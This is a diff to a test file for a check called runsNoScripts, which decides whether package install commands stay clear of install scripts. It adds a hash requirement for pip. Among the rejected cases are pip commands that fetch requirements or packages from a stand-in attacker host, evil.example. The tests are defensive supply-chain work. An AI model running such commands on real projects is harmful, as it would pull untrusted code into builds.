@@ -5,7 +5,7 @@ describe('an install that runs no scripts', () => {
   it.each([
     ...SCRIPTLESS.filter((one) => !one.startsWith('pip')),
     'npm ci --ignore-scripts --no-audit --omit=dev',
-    'pip install --only-binary=:all: -r requirements.txt',
+    'pip install --require-hashes --only-binary=:all: -r requirements.txt',
     'pip install -q --require-hashes --only-binary=:all: -r requirements-dev.txt',
     'go mod download',
   ])('%s', (command) => expect(runsNoScripts(command)).toBe(true));
@@ -25,9 +25,11 @@ describe('an install that runs no scripts', () => {
     'PATH=. npm ci --ignore-scripts',
     'pnpm install --ignore-scripts --frozen-lockfile',
     'pip install -r requirements.txt',
-    'pip install --only-binary=:all: -r https://evil.example/requirements.txt',
-    'pip install --only-binary=:all: -r deps.txt',
-    'pip install --only-binary=:all: --index-url https://evil.example -r requirements.txt',
+    // A folder of the repository among them is built, by code of the pull request's; with hashes pip refuses folders.
+    'pip install --only-binary=:all: -r requirements.txt',
+    'pip install --require-hashes --only-binary=:all: -r https://evil.example/requirements.txt',
+    'pip install --require-hashes --only-binary=:all: -r deps.txt',
+    'pip install --require-hashes --only-binary=:all: --index-url https://evil.example -r requirements.txt',
     'cargo build',
     'go mod download -x',
     'make',
